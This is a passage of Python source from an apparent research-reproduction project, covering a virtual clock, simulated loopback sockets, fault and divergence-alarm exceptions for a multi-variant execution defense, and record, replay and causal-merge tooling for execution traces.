    return year % 4 == 0 and (year % 100 != 0 or year % 400 == 0)


def _civil_from_days(days: int):
    """Days since 1970-01-01 -> (year, month[1-12], day[1-31], weekday).

    Howard Hinnant's public-domain algorithm, restricted to days >= 0.
    """
    weekday = (days + 4) % 7  # 1970-01-01 was a Thursday; 0 == Sunday
    shifted = days + 719468   # re-anchor at 0000-03-01
    era = shifted // 146097
    doe = shifted - era * 146097
    yoe = (doe - doe // 1460 + doe // 36524 - doe // 146096) // 365
    year = yoe + era * 400
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    day = doy - (153 * mp + 2) // 5 + 1
    month = mp + 3 if mp < 10 else mp - 9
    year = year + (1 if month <= 2 else 0)
    return year, month, day, weekday


@dataclass
class TmStruct:
    """A ``struct tm`` equivalent, the result of ``localtime_r``."""

    tm_sec: int
    tm_min: int
    tm_hour: int
    tm_mday: int
    tm_mon: int       # 0-11, as in C
    tm_year: int      # years since 1900, as in C
    tm_wday: int      # 0 == Sunday
    tm_yday: int
    tm_isdst: int = 0

    def pack(self) -> bytes:
        """Serialize as nine little-endian int64s (the guest ABI layout)."""
        import struct
        return struct.pack(
            "<9q", self.tm_sec, self.tm_min, self.tm_hour, self.tm_mday,
            self.tm_mon, self.tm_year, self.tm_wday, self.tm_yday,
            self.tm_isdst)

    @staticmethod
    def unpack(raw: bytes) -> "TmStruct":
        import struct
        return TmStruct(*struct.unpack("<9q", raw[:72]))


class VirtualClock:
    """Monotonic + wall virtual clock, advanced explicitly."""

    def __init__(self, epoch_s: int = DEFAULT_EPOCH_S):
        self.epoch_s = epoch_s
        self._mono_ns = 0
        #: optional observer of time *reads*: fn(kind, value) — the
        #: flight recorder (repro.trace) verifies on replay that the
        #: guest observed an identical stream of clock values.
        self.read_hook = None

    # -- advancing -----------------------------------------------------------

    def advance_ns(self, ns: float) -> None:
        if ns < 0:
            raise ValueError("time cannot go backwards")
        self._mono_ns += ns

    def advance_to(self, mono_ns: float) -> None:
        if mono_ns > self._mono_ns:
            self._mono_ns = mono_ns

    # -- reading -------------------------------------------------------------

    @property
    def monotonic_ns(self) -> float:
        return self._mono_ns

    @property
    def wall_ns(self) -> float:
        return self.epoch_s * NSEC_PER_SEC + self._mono_ns

    def gettimeofday(self):
        """Return ``(tv_sec, tv_usec)``."""
        total_usec = int(self.wall_ns // 1000)
        result = total_usec // USEC_PER_SEC, total_usec % USEC_PER_SEC
        if self.read_hook is not None:
            self.read_hook("gettimeofday", result)
        return result

    def localtime(self, epoch_seconds=None) -> TmStruct:
        """Break an epoch timestamp into civil time (UTC; no DST model)."""
        if epoch_seconds is None:
            epoch_seconds = int(self.wall_ns // NSEC_PER_SEC)
        if self.read_hook is not None:
            self.read_hook("localtime", int(epoch_seconds))
        days, rem = divmod(int(epoch_seconds), 86400)
        year, month, day, weekday = _civil_from_days(days)
        yday = day - 1 + sum(_DAYS_IN_MONTH[:month - 1])
        if month > 2 and _is_leap(year):
            yday += 1
        return TmStruct(
            tm_sec=rem % 60,
            tm_min=(rem // 60) % 60,
            tm_hour=rem // 3600,
            tm_mday=day,
            tm_mon=month - 1,
            tm_year=year - 1900,
            tm_wday=weekday,
            tm_yday=yday,
        )
