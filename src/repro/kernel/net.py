"""Loopback networking.

The paper's server evaluation runs ApacheBench against the loopback
interface with 0.1 ms latency (§4.1); the attacker of §2.2 reaches the
target only through a socket.  This module provides exactly that: stream
sockets connected pairwise over a simulated loopback with a configurable
one-way latency, driven by the shared :class:`VirtualClock`.

Server-side sockets are installed into a process's FD table by the kernel;
client-side sockets are used directly by host-level workload generators
(`repro.workloads`), which play the role of the remote machine.
"""

from __future__ import annotations

from collections import deque
from typing import Callable, Deque, Dict, List, Optional, Tuple

from repro.kernel.clock import VirtualClock
from repro.kernel.errno_codes import Errno

#: Loopback one-way latency, matching the paper's 0.1 ms.
DEFAULT_LATENCY_NS = 100_000


class Socket:
    """One end of a connected stream socket."""

    def __init__(self, network: "Network", label: str):
        self._network = network
        self.label = label
        #: connection number assigned by :meth:`Network.connect` (both
        #: ends share it); host-provisioned sockets keep -1.
        self.conn_id = -1
        self.peer: Optional["Socket"] = None
        #: inbound segments: (ready_at_ns, bytearray)
        self._inbox: Deque[Tuple[float, bytearray]] = deque()
        self.closed = False
        #: when the peer's FIN becomes visible here (None = still open).
        #: The FIN travels the same latency path as data and never
        #: overtakes segments sent causally before it, so EOF/HUP cannot
        #: precede data the peer sent first.
        self.fin_at: Optional[float] = None
        #: latest scheduled arrival in this direction (FIN ordering).
        self.last_delivery_at: float = 0.0
        #: local half-close: ``shutdown(SHUT_WR)`` was issued here, so
        #: further sends must fail with EPIPE even though the socket
        #: itself is still open for reading.
        self.write_shutdown = False
        self.bytes_sent = 0
        self.bytes_received = 0
        self.options: Dict[Tuple[int, int], int] = {}
        #: readiness watchers (epoll ready lists): zero-arg callables
        #: fired whenever this end *may* have become readable — a segment
        #: or FIN was scheduled toward it.  Watchers only arm a ready
        #: list; actual readability is still probed against the clock.
        self._watchers: List[Callable[[], None]] = []

    # -- plumbing -------------------------------------------------------------

    def add_watcher(self, fn: Callable[[], None]) -> None:
        if fn not in self._watchers:
            self._watchers.append(fn)

    def remove_watcher(self, fn: Callable[[], None]) -> None:
        if fn in self._watchers:
            self._watchers.remove(fn)

    def _notify(self) -> None:
        for fn in tuple(self._watchers):
            fn()

    def _deliver(self, data: bytes, ready_at: float) -> None:
        self._inbox.append((ready_at, bytearray(data)))
        if ready_at > self.last_delivery_at:
            self.last_delivery_at = ready_at
        if self._network.ingress_hook is not None:
            self._network.ingress_hook(self, data, ready_at)
        self._notify()

    def fin_visible(self, now: float) -> bool:
        """Has the peer's FIN arrived by ``now``?"""
        return self.fin_at is not None and self.fin_at <= now

    @property
    def peer_closed(self) -> bool:
        """FIN-received state at the current instant (compat shim for
        callers without a ``now`` in hand)."""
        return self.fin_visible(self._network.clock.monotonic_ns)

    def next_ready_at(self) -> Optional[float]:
        """Earliest instant at which this socket becomes readable."""
        if self._inbox:
            return self._inbox[0][0]
        if self.fin_at is not None:
            return self.fin_at
        return None

    def readable(self, now: float) -> bool:
        if self._inbox and self._inbox[0][0] <= now:
            return True
        return self.fin_visible(now) and not self._inbox

    def writable(self, now: float) -> bool:
        return (not self.closed and not self.write_shutdown
                and not self.fin_visible(now))

    # -- I/O -------------------------------------------------------------------

    def send(self, data: bytes, extra_delay_ns: float = 0) -> int:
        """Queue bytes toward the peer; returns count or negative errno.

        ``extra_delay_ns`` models client-side pacing on top of the link
        latency (e.g. an attacker sending a request head, then the body a
        moment later so it arrives while the server is mid-request).
        """
        if self.closed:
            return -Errno.EBADF
        if self.write_shutdown:
            return -Errno.EPIPE   # POSIX: no sends after SHUT_WR
        now = self._network.clock.monotonic_ns
        if self.peer is None or self.fin_visible(now):
            return -Errno.EPIPE
        base = now + self._network.latency_ns + extra_delay_ns
        plane = self._network.fault_plane
        pieces = plane.segment_delivery(data) \
            if plane is not None and plane.active else None
        if pieces is None:
            self.peer._deliver(data, base)
        else:
            for chunk, extra in pieces:
                self.peer._deliver(chunk, base + extra)
        self.bytes_sent += len(data)
        return len(data)

    def recv(self, count: int) -> "bytes | int":
        """Read up to ``count`` ready bytes.

        Returns ``b""`` on EOF, ``-EAGAIN`` if nothing is ready yet, the
        bytes otherwise.  (Sockets are non-blocking; the kernel layers
        block-until-ready behaviour on top when asked to.)
        """
        if self.closed:
            return -Errno.EBADF
        if count == 0:
            return b""            # POSIX: read(fd, buf, 0) returns 0
        now = self._network.clock.monotonic_ns
        out = bytearray()
        while self._inbox and len(out) < count:
            ready_at, segment = self._inbox[0]
            if ready_at > now:
                break
            take = min(count - len(out), len(segment))
            out += segment[:take]
            if take == len(segment):
                self._inbox.popleft()
            else:
                del segment[:take]
        if out:
            self.bytes_received += len(out)
            return bytes(out)
        if self._inbox:
            return -Errno.EAGAIN  # data in flight, not yet arrived
        if self.fin_visible(now):
            return b""            # orderly EOF
        return -Errno.EAGAIN

    def recv_wait(self, count: int) -> "bytes | int":
        """Like :meth:`recv` but advances the clock to the data if needed.

        Host-side workload generators use this: the "remote machine" has
        nothing else to do, so waiting == advancing virtual time.
        """
        result = self.recv(count)
        if result == -Errno.EAGAIN:
            ready_at = self.next_ready_at()
            if ready_at is None:
                return -Errno.EAGAIN
            self._network.clock.advance_to(ready_at)
            result = self.recv(count)
        return result

    def shutdown_write(self) -> None:
        """Send FIN: it rides the same latency path as data and is
        sequenced after every segment already in flight toward the peer,
        so the peer never observes EOF/HUP before causally earlier data."""
        self.write_shutdown = True
        if self.peer is not None and self.peer.fin_at is None:
            now = self._network.clock.monotonic_ns
            self.peer.fin_at = max(now + self._network.latency_ns,
                                   self.peer.last_delivery_at)
            self.peer._notify()

    def close(self) -> None:
        if self.closed:
            return
        self.closed = True
        self.shutdown_write()


class Listener:
    """A listening socket bound to a port."""

    def __init__(self, network: "Network", port: int, backlog: int = 128):
        self._network = network
        self.port = port
        self.backlog = backlog
        self._pending: Deque[Tuple[float, Socket]] = deque()
        self.closed = False
        self.accepted_total = 0
        #: readiness watchers — see :meth:`Socket.add_watcher`.
        self._watchers: List[Callable[[], None]] = []

    def add_watcher(self, fn: Callable[[], None]) -> None:
        if fn not in self._watchers:
            self._watchers.append(fn)

    def remove_watcher(self, fn: Callable[[], None]) -> None:
        if fn in self._watchers:
            self._watchers.remove(fn)

    def _notify(self) -> None:
        for fn in tuple(self._watchers):
            fn()

    def enqueue(self, server_end: Socket, ready_at: float) -> int:
        backlog = self.backlog
        plane = self._network.fault_plane
        if plane is not None and plane.active:
            backlog = plane.backlog_limit(backlog)
        if len(self._pending) >= backlog:
            return -Errno.ECONNREFUSED
        self._pending.append((ready_at, server_end))
        self._notify()
        return 0

    def next_ready_at(self) -> Optional[float]:
        return self._pending[0][0] if self._pending else None

    def pending_count(self) -> int:
        """Connections awaiting accept (including ones still in flight);
        workload generators use this to bound their accept-pump loops."""
        return len(self._pending)

    def readable(self, now: float) -> bool:
        return bool(self._pending) and self._pending[0][0] <= now

    def accept(self) -> "Socket | int":
        now = self._network.clock.monotonic_ns
        if not self._pending:
            return -Errno.EAGAIN
        ready_at, sock = self._pending[0]
        if ready_at > now:
            return -Errno.EAGAIN
        self._pending.popleft()
        self.accepted_total += 1
        if self._network.accept_hook is not None:
            self._network.accept_hook(self, sock)
        return sock

    def close(self) -> None:
        if self.closed:
            return
        self.closed = True
        self._network.release_port(self.port)
        # Tear down every queued, never-accepted connection: closing the
        # server end sends FIN back to the mid-connect client, which
        # would otherwise park on a socket nobody will ever service.
        while self._pending:
            _ready_at, server_end = self._pending.popleft()
            server_end.close()


class Network:
    """The loopback fabric: listeners by port, latency, connection setup."""

    def __init__(self, clock: VirtualClock,
                 latency_ns: int = DEFAULT_LATENCY_NS):
        self.clock = clock
        self.latency_ns = latency_ns
        self._listeners: Dict[int, Listener] = {}
        self.connections_total = 0
        #: the kernel's fault-injection plane (None for a bare Network);
        #: consulted for delivery segmentation and backlog caps.
        self.fault_plane = None
        #: flight-recorder taps (repro.trace): all default to None so the
        #: fast path stays a single attribute test.
        #: fn(client_socket, port) after a successful connect
        self.connect_hook = None
        #: fn(receiving_socket, data, ready_at_ns) on every delivery
        self.ingress_hook = None
        #: fn(listener, server_socket) on every successful accept
        self.accept_hook = None

    def listen(self, port: int, backlog: int = 128) -> "Listener | int":
        if port in self._listeners:
            return -Errno.EADDRINUSE
        listener = Listener(self, port, backlog)
        self._listeners[port] = listener
        return listener

    def release_port(self, port: int) -> None:
        self._listeners.pop(port, None)

    def listener_at(self, port: int) -> Optional[Listener]:
        return self._listeners.get(port)

    def connect(self, port: int) -> "Socket | int":
        """Client-side connect; returns the client socket end."""
        listener = self._listeners.get(port)
        if listener is None or listener.closed:
            return -Errno.ECONNREFUSED
        client = Socket(self, f"client:{port}")
        server = Socket(self, f"server:{port}")
        client.peer = server
        server.peer = client
        now = self.clock.monotonic_ns
        rc = listener.enqueue(server, now + self.latency_ns)
        if rc < 0:
            return rc
        client.conn_id = server.conn_id = self.connections_total
        self.connections_total += 1
        if self.connect_hook is not None:
            self.connect_hook(client, port)
        return client
