"""Exception hierarchy for the simulated machine and the sMVX runtime.

Faults raised by the simulated hardware deliberately mirror the signals a
native process would receive: a bad data access is a segmentation fault, an
MPK violation is likewise delivered as SIGSEGV with a pkey error code, and a
fetch from a non-executable page is a fault as well.  The sMVX layer turns
faults observed in the *follower* variant into divergence alarms.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for every error raised by this library."""


# ---------------------------------------------------------------------------
# Machine-level faults (simulated hardware signals)
# ---------------------------------------------------------------------------

class MachineFault(ReproError):
    """Base class for faults raised by the simulated CPU/MMU."""

    def __init__(self, message: str, address: int = 0):
        super().__init__(message)
        self.address = address


class SegmentationFault(MachineFault):
    """Access to an unmapped address or one lacking the needed permission."""


class ProtectionKeyFault(SegmentationFault):
    """Data access denied by the current thread's PKRU register.

    Real hardware reports these as SIGSEGV with ``si_code == SEGV_PKUERR``;
    we keep them a subclass of :class:`SegmentationFault` for the same
    reason, while letting tests distinguish the cause.
    """


class ExecuteFault(SegmentationFault):
    """Instruction fetch from a page that is not mapped or not executable."""


class InvalidInstruction(MachineFault):
    """The CPU decoded bytes that are not a valid instruction."""


class AlignmentFault(MachineFault):
    """A word access that is not naturally aligned (the machine requires it)."""


class DoubleFault(MachineFault):
    """A fault raised while already handling a fault (kills the task)."""


# ---------------------------------------------------------------------------
# Kernel-level errors
# ---------------------------------------------------------------------------

class KernelError(ReproError):
    """Base class for simulated-kernel failures (not guest-visible errno)."""


class NoSuchTask(KernelError):
    pass


class ResourceExhausted(KernelError):
    pass


# ---------------------------------------------------------------------------
# Loader / image errors
# ---------------------------------------------------------------------------

class ImageError(ReproError):
    """Malformed program image or failed load/relocation."""


class SymbolNotFound(ImageError):
    def __init__(self, name: str):
        super().__init__(f"symbol not found: {name!r}")
        self.name = name


# ---------------------------------------------------------------------------
# sMVX runtime errors
# ---------------------------------------------------------------------------

class MvxError(ReproError):
    """Base class for sMVX monitor errors."""


class MvxDivergence(MvxError):
    """The variants diverged: a potential attack was detected.

    Carries a structured :attr:`report` describing what differed (libc call
    name, argument index, return value, or a fault in one variant).
    """

    def __init__(self, report: "object"):
        super().__init__(f"variant divergence detected: {report}")
        self.report = report


class MvxSetupError(MvxError):
    """mvx_init()/setup failed (missing profile, bad annotation, ...)."""


class MvxStateError(MvxError):
    """API misuse: mvx_start() without init, nested regions, etc."""
