"""Replay mode: re-execute a recorded run and assert it is bit-identical.

Replay rebuilds the recorded scenario (same seed, same server
configuration), points ``/dev/urandom`` at the *recorded* byte stream (the
kernel consumes recorded nondeterminism rather than regenerating it), and
re-issues the stimulus script through a fresh :class:`~repro.trace.record.
Recorder`.  Because every remaining source of ordering in the simulation
is deterministic — the virtual clock only advances when work is charged,
and lockstep IPC strictly serializes the variants — the replay's script,
event stream, and footer must match the recording exactly: virtual-cycle
totals, instruction counts, the syscall retval/errno stream digest, libc
call counts, response digests, and any divergence alarms (down to the
guest PC).  Every discrepancy is reported as a mismatch, not an exception,
so a diverged replay is itself debuggable.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.trace.record import Recorder, Trace

#: footer fields compared scalar-for-scalar.
_FOOTER_KEYS = (
    "clock_end_ns", "counter_total_ns", "total_cpu_ns",
    "instructions_retired", "cpu_tiers", "libc_calls_total",
    "libc_call_counts",
    "syscalls", "syscall_digest", "syscalls_of_process",
    "clock_reads", "clock_digest", "urandom_bytes",
    "task_spawns", "task_exits", "accept_order", "alarms",
    "faults", "faults_by_kind", "fault_digest",
    "sched_decisions", "sched_digest", "sched_stats",
    "worker_pids", "workers_busy_ns", "supervisor",
    "host_id", "wire_frames", "wire_bytes", "wire_digest", "lamport_max",
)


class ReplayUrandom:
    """Serves the recorded /dev/urandom stream back to the kernel.

    Chunk boundaries must line up with the recorded reads; if the replay
    asks for something the recording never produced, we fall back to the
    seeded generator and note the drift (the footer comparison will show
    where it mattered).
    """

    def __init__(self, chunks: List[bytes], fallback):
        self._chunks = deque(chunks)
        self._fallback = fallback
        self.seed = fallback.seed
        self.tap = None
        self.bytes_served = 0
        self.fallback_reads = 0

    def read(self, count: int) -> bytes:
        if self._chunks and len(self._chunks[0]) == count:
            chunk = self._chunks.popleft()
        else:
            self.fallback_reads += 1
            chunk = self._fallback.read(count)
        self.bytes_served += len(chunk)
        if self.tap is not None:
            self.tap(chunk)
        return chunk

    @property
    def unconsumed(self) -> int:
        return len(self._chunks)


@dataclass
class ReplayResult:
    ok: bool
    mismatches: List[str] = field(default_factory=list)
    recorded_footer: Dict = field(default_factory=dict)
    replayed_footer: Dict = field(default_factory=dict)
    trace: Optional[Trace] = None        # the re-recording of the replay
    server = None

    def summary(self) -> str:
        if self.ok:
            return ("replay OK: bit-identical "
                    f"(cycles={self.replayed_footer.get('counter_total_ns')}"
                    f", instructions="
                    f"{self.replayed_footer.get('instructions_retired')})")
        lines = [f"replay DIVERGED: {len(self.mismatches)} mismatch(es)"]
        lines += [f"  - {m}" for m in self.mismatches[:20]]
        return "\n".join(lines)


def _build_scenario(trace: Trace):
    """Rebuild the recorded scenario: kernel (same seed), server (same
    config), recorder attached at the same point in the lifecycle."""
    from repro.kernel.kernel import Kernel

    scenario = trace.meta.get("scenario", {})
    app = scenario.get("app", "minx")
    if app == "minx":
        from repro.apps.minx import MinxServer
        server_cls = MinxServer
    elif app == "littled":
        from repro.apps.littled import LittledServer
        server_cls = LittledServer
    elif app.endswith("-cluster"):
        raise ValueError(
            f"{app!r} is a per-host trace of a cluster run; replay the "
            f"whole cluster with `python -m repro.cluster replay` (a "
            f"single host's stimulus depends on its peers' wire frames)")
    else:
        raise ValueError(f"cannot rebuild unknown scenario app {app!r}")
    kernel = Kernel(seed=scenario.get("seed", "smvx-repro"))
    server = server_cls(kernel, **scenario.get("kwargs", {}))
    if scenario.get("faults"):
        # re-arm the recorded fault schedule: the identical fault stream
        # re-derives from (seed, schedule, query sequence) — faults are
        # replayed by reproduction, not by playback.
        from repro.kernel.faults import FaultSchedule
        kernel.faults.install(FaultSchedule.from_dict(scenario["faults"]))
    recorder = Recorder(
        kernel, scenario=scenario,
        capacity=trace.meta.get("ring", {}).get("capacity", 4096),
        trace_instructions=trace.meta.get("trace_instructions", False))
    recorder.attach_server(server)
    # from here on the kernel consumes the *recorded* nondeterminism
    replay_urandom = ReplayUrandom(
        [bytes.fromhex(c) for c in trace.inputs.get("urandom", [])],
        kernel.vfs.urandom)
    replay_urandom.tap = recorder._on_urandom
    kernel.vfs.urandom.tap = None
    kernel.vfs.urandom = replay_urandom
    return kernel, server, recorder, replay_urandom


def _run_script(trace: Trace, kernel, server) -> List[str]:
    """Re-issue the recorded host stimuli in order."""
    problems: List[str] = []
    conns: Dict[int, object] = {}
    for index, op in enumerate(trace.script):
        kind = op["op"]
        if kind == "start":
            server.start()
        elif kind == "pump":
            try:
                server.pump()
            except Exception as exc:
                if op.get("error") != type(exc).__name__:
                    problems.append(
                        f"script[{index}]: pump raised "
                        f"{type(exc).__name__}, recorded "
                        f"{op.get('error', 'no error')}")
        elif kind == "connect":
            sock = kernel.network.connect(op["port"])
            if isinstance(sock, int):
                problems.append(
                    f"script[{index}]: connect({op['port']}) failed "
                    f"with {sock}")
                continue
            if sock.conn_id != op["conn"]:
                problems.append(
                    f"script[{index}]: connect produced conn "
                    f"{sock.conn_id}, recorded {op['conn']}")
            conns[op["conn"]] = sock
        elif kind in ("send", "recv", "close"):
            sock = conns.get(op["conn"])
            if sock is None:
                problems.append(
                    f"script[{index}]: {kind} on unknown conn "
                    f"{op['conn']}")
                continue
            if kind == "send":
                sock.send(bytes.fromhex(op["data"]),
                          op.get("delay_ns", 0))
            elif kind == "recv":
                sock.recv_wait(op["count"])
            else:
                sock.close()
        else:
            problems.append(f"script[{index}]: unknown op {kind!r}")
    return problems


def _diff_scripts(recorded: List[Dict], replayed: List[Dict]) -> List[str]:
    problems: List[str] = []
    if len(recorded) != len(replayed):
        problems.append(
            f"script length: recorded {len(recorded)} ops, "
            f"replayed {len(replayed)}")
    for index, (want, got) in enumerate(zip(recorded, replayed)):
        if want != got:
            problems.append(
                f"script[{index}] ({want.get('op')}): recorded {want} "
                f"!= replayed {got}")
            if len(problems) >= 10:
                problems.append("... further script diffs suppressed")
                break
    return problems


def _diff_footers(recorded: Dict, replayed: Dict) -> List[str]:
    problems = []
    for key in _FOOTER_KEYS:
        want, got = recorded.get(key), replayed.get(key)
        if want != got:
            problems.append(f"footer.{key}: recorded {want!r} "
                            f"!= replayed {got!r}")
    return problems


def _diff_events(recorded: List[Dict], replayed: List[Dict]) -> List[str]:
    """Event-stream comparison for workload-driven replays: the ring
    must be *identical*, event for event (both sides record with the
    same capacity, so bounded-drop behaviour matches too)."""
    problems: List[str] = []
    if len(recorded) != len(replayed):
        problems.append(
            f"events: recorded {len(recorded)}, replayed {len(replayed)}")
    for index, (want, got) in enumerate(zip(recorded, replayed)):
        if want != got:
            problems.append(
                f"events[{index}]: recorded {want} != replayed {got}")
            if len(problems) >= 10:
                problems.append("... further event diffs suppressed")
                break
    return problems


def replay_trace(trace: Trace, keep_server: bool = False) -> ReplayResult:
    """Replay ``trace`` from scratch; returns the comparison verdict.

    Scenarios that carry a ``workload`` (littled + ApacheBench, possibly
    scheduled multi-worker) are replayed *by reproduction*: the same
    workload is re-driven and must regenerate the identical stimulus
    script, event stream, and footer.  Script-only scenarios re-issue
    the recorded host stimuli one by one.

    With ``keep_server=True`` the rebuilt server is left on the result
    (``result.server``) for post-mortem poking.
    """
    kernel, server, recorder, replay_urandom = _build_scenario(trace)
    scenario = trace.meta.get("scenario", {})
    workload = scenario.get("workload")
    control = scenario.get("control")
    if workload is not None:
        from repro.trace.record import (apply_control_plane,
                                        drive_littled_workload)
        server.start()
        # re-arm the recorded control plane before the workload, exactly
        # as the record side did: the supervisor's restarts/reload are
        # replayed by reproduction, and its snapshot must re-pin
        apply_control_plane(kernel, server, control, recorder)
        drive_littled_workload(kernel, server, workload)
        mismatches = []
    else:
        mismatches = _run_script(trace, kernel, server)
    replay_trace_out = recorder.finish()
    mismatches += _diff_scripts(trace.script, replay_trace_out.script)
    if workload is not None:
        mismatches += _diff_events(trace.events, replay_trace_out.events)
    mismatches += _diff_footers(trace.footer, replay_trace_out.footer)
    if replay_urandom.unconsumed:
        mismatches.append(
            f"urandom: {replay_urandom.unconsumed} recorded chunk(s) "
            "never consumed")
    if replay_urandom.fallback_reads:
        mismatches.append(
            f"urandom: {replay_urandom.fallback_reads} read(s) missed "
            "the recorded stream and fell back to the seeded generator")
    result = ReplayResult(ok=not mismatches, mismatches=mismatches,
                          recorded_footer=dict(trace.footer),
                          replayed_footer=dict(replay_trace_out.footer),
                          trace=replay_trace_out)
    if keep_server:
        result.server = server
    return result
