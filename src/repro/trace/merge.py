"""Causally-consistent merge of per-host cluster traces.

A cluster run (:mod:`repro.cluster`) produces one
:class:`~repro.trace.record.Trace` per host.  Each host's event stream
is locally ordered, but per-host virtual clocks are *not* comparable
across hosts — only the Lamport stamps carried on WIRE events are.  The
merge therefore orders events by **causal time**:

* every event inherits the Lamport value of the most recent WIRE event
  on its own host (0 before the first one);
* the global sort key is ``(lamport, host_id, local_seq)``.

The result respects the happened-before relation (a frame's send always
precedes its receive, and everything after the receive on the
destination host is ordered after everything before the send on the
source host), and — because both host streams and Lamport stamps are
pure functions of the seeds — the merged order is **bit-identical
across repeated runs**, which :func:`merge_digest` pins.
"""

from __future__ import annotations

import hashlib
from typing import Dict, List, Sequence

from repro.trace.record import Trace


def annotate_causal(trace: Trace) -> List[Dict]:
    """One host's events, each annotated with ``host`` and the Lamport
    value in force when it happened."""
    host_id = trace.footer.get("host_id", 0)
    lamport = 0
    annotated = []
    for event in trace.events:
        if event.get("kind") == "wire":
            lamport = event.get("data", {}).get("lamport", lamport)
        out = dict(event)
        out["host"] = host_id
        out["lamport"] = lamport
        annotated.append(out)
    return annotated


def merge_traces(traces: Sequence[Trace]) -> List[Dict]:
    """Merge per-host traces into one causally-consistent stream."""
    merged: List[Dict] = []
    for trace in traces:
        merged.extend(annotate_causal(trace))
    merged.sort(key=lambda e: (e["lamport"], e["host"], e["seq"]))
    return merged


def merge_digest(merged: Sequence[Dict]) -> str:
    """Deterministic fingerprint of a merged stream (the cross-run
    bit-identity pin: same seeds => same digest)."""
    digest = hashlib.sha256()
    for event in merged:
        digest.update(
            f"{event['lamport']}:{event['host']}:{event['seq']}:"
            f"{event['kind']}:{event.get('name', '')}:"
            f"{event['t_ns']}".encode())
    return digest.hexdigest()


def merge_summary(merged: Sequence[Dict]) -> Dict:
    """Counts for CLI/info display."""
    hosts = sorted({event["host"] for event in merged})
    by_host = {host: sum(1 for e in merged if e["host"] == host)
               for host in hosts}
    wire = [e for e in merged if e["kind"] == "wire"]
    return {"events": len(merged), "hosts": hosts,
            "events_by_host": by_host, "wire_events": len(wire),
            "lamport_max": max((e["lamport"] for e in merged), default=0),
            "digest": merge_digest(merged)}
