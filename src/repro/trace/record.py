"""Record mode: capture a guest run's nondeterminism at the OS boundary.

Following rr's core observation, everything a deterministic interpreter
needs in order to re-execute a run bit-for-bit is the stream of inputs
that crossed into it: here the virtual-clock reads, ``/dev/urandom``
bytes, socket ingress (payloads, pacing, and accept order), and
task-creation decisions — all owned by ``repro.kernel`` — plus the *host
stimulus script*: the ordered connect/send/recv/pump calls the workload
generator issued against the machine.  The :class:`Recorder` taps each of
those points (none of the taps charges virtual time), appends structured
events to a bounded ring, and serializes everything into a versioned
:class:`Trace`.

While a recorder is attached, drive the server only through the network
and ``pump()`` — host-side guest calls that bypass the taps (for example
the ``MinxServer.served`` property) would execute unrecorded guest work
and the replay would no longer line up.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.machine.isa import Op
from repro.trace.events import EventKind, MetricsRegistry, RingRecorder

TRACE_VERSION = 1

#: how many trailing ring events a divergence capsule snapshots.
DEFAULT_CAPSULE_WINDOW = 256


def _stream_digest() -> "hashlib._Hash":
    return hashlib.sha256()


@dataclass
class Trace:
    """A serialized recording: header, stimulus script, inputs, events.

    ``inputs`` holds the recorded nondeterminism (urandom chunks, clock
    digest, task spawns, accept order); ``footer`` the end-of-run ground
    truth replay must reproduce (virtual-cycle totals, instruction count,
    syscall retval/errno stream digest, libc call counts, alarms).
    """

    version: int = TRACE_VERSION
    meta: Dict = field(default_factory=dict)
    script: List[Dict] = field(default_factory=list)
    inputs: Dict = field(default_factory=dict)
    events: List[Dict] = field(default_factory=list)
    footer: Dict = field(default_factory=dict)

    def to_dict(self) -> Dict:
        return {"version": self.version, "meta": self.meta,
                "script": self.script, "inputs": self.inputs,
                "events": self.events, "footer": self.footer}

    @staticmethod
    def from_dict(raw: Dict) -> "Trace":
        version = raw.get("version")
        if version != TRACE_VERSION:
            raise ValueError(
                f"unsupported trace version {version!r} "
                f"(this build reads version {TRACE_VERSION})")
        return Trace(version, raw.get("meta", {}), raw.get("script", []),
                     raw.get("inputs", {}), raw.get("events", []),
                     raw.get("footer", {}))

    def dumps(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True)

    @staticmethod
    def loads(text: str) -> "Trace":
        return Trace.from_dict(json.loads(text))

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            fh.write(self.dumps())

    @staticmethod
    def load(path: str) -> "Trace":
        with open(path, "r", encoding="utf-8") as fh:
            return Trace.loads(fh.read())


class Recorder:
    """Attach to a kernel (and then a server) and capture a run.

    Lifecycle::

        kernel = Kernel(seed="...")
        server = MinxServer(kernel, ...)
        recorder = Recorder(kernel, scenario={...})
        recorder.attach_server(server)
        server.start()                       # recorded
        ... drive traffic / attacks ...      # recorded
        trace = recorder.finish()

    ``trace_instructions=True`` additionally streams per-instruction
    events (and PKRU flips) into the ring — expensive, but the ring stays
    bounded.
    """

    def __init__(self, kernel, scenario: Optional[Dict] = None,
                 capacity: int = 4096, trace_instructions: bool = False,
                 capsule_window: int = DEFAULT_CAPSULE_WINDOW):
        self.kernel = kernel
        self.scenario = dict(scenario or {})
        self.ring = RingRecorder(capacity)
        self.metrics: MetricsRegistry = self.ring.metrics
        self.trace_instructions = trace_instructions
        self.capsule_window = capsule_window
        self.server = None
        self.process = None
        self.supervisor = None

        self.script: List[Dict] = []
        self.urandom_chunks: List[bytes] = []
        self.spawns: List[List] = []
        self.task_exits: List[List] = []
        self.accept_order: List[int] = []
        self.capsules: List = []
        self._pending_capsules: List = []
        self._clock_digest = _stream_digest()
        self._clock_reads = 0
        self._syscall_digest = _stream_digest()
        self._syscall_count = 0
        self._wire_digest = _stream_digest()
        self._wire_frames = 0
        self._wire_bytes = 0
        self._lamport_max = 0
        self._extra_procs: List = []

        self._install_kernel_taps()

    # ------------------------------------------------------------------
    # tap installation
    # ------------------------------------------------------------------

    def _install_kernel_taps(self) -> None:
        kernel = self.kernel
        kernel.vfs.urandom.tap = self._on_urandom
        kernel.clock.read_hook = self._on_clock_read
        kernel.tasks.spawn_hook = self._on_spawn
        kernel.tasks.exit_hook = self._on_task_exit
        kernel.syscall_result_hooks.append(self._on_syscall)
        kernel.faults.fault_hook = self._on_fault
        network = kernel.network
        network.connect_hook = self._on_connect
        network.ingress_hook = self._on_ingress
        network.accept_hook = self._on_accept
        if hasattr(kernel, "wire_hooks"):
            kernel.wire_hooks.append(self._on_wire)
        self._tap_scheduler()

    def _tap_scheduler(self) -> None:
        """Tap the deterministic scheduler's decision stream (the
        scheduler may be installed after the recorder, so this is also
        re-checked at ``attach_server`` time)."""
